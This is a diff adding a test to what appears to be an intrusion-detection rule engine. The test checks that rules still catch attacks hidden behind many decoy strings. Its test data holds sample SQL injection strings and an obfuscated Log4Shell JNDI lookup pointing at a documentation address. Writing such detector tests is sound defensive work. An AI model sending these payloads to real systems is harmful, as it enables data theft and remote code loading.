@@ -65,6 +65,14 @@ describe('the built-in rules', () => {
     expect(kinds(part, text)).toEqual([])
   })
 
+  it.each([
+    [100, 'union all ', '/i?id=1 union select pw from users', 'sql_injection'],
+    [300, 'pg_sleep( ', ";waitfor delay '0:0:9'", 'sql_injection'],
+    [700, '${date:x} ', '${${lower:j}ndi:rmi://192.0.2.7/x}', 'log4shell'],
+  ])('find what follows %i decoys of %j', (count, decoy, attack, kind) => {
+    expect(kinds('http.uri', decoy.repeat(count) + attack)).toContain(kind)
+  })
+
   it('take bounded time on 64 kB made to tire them', () => {
     const tiring = builtInRules.flatMap(({ content }) => content)
     for (const literal of tiring) {
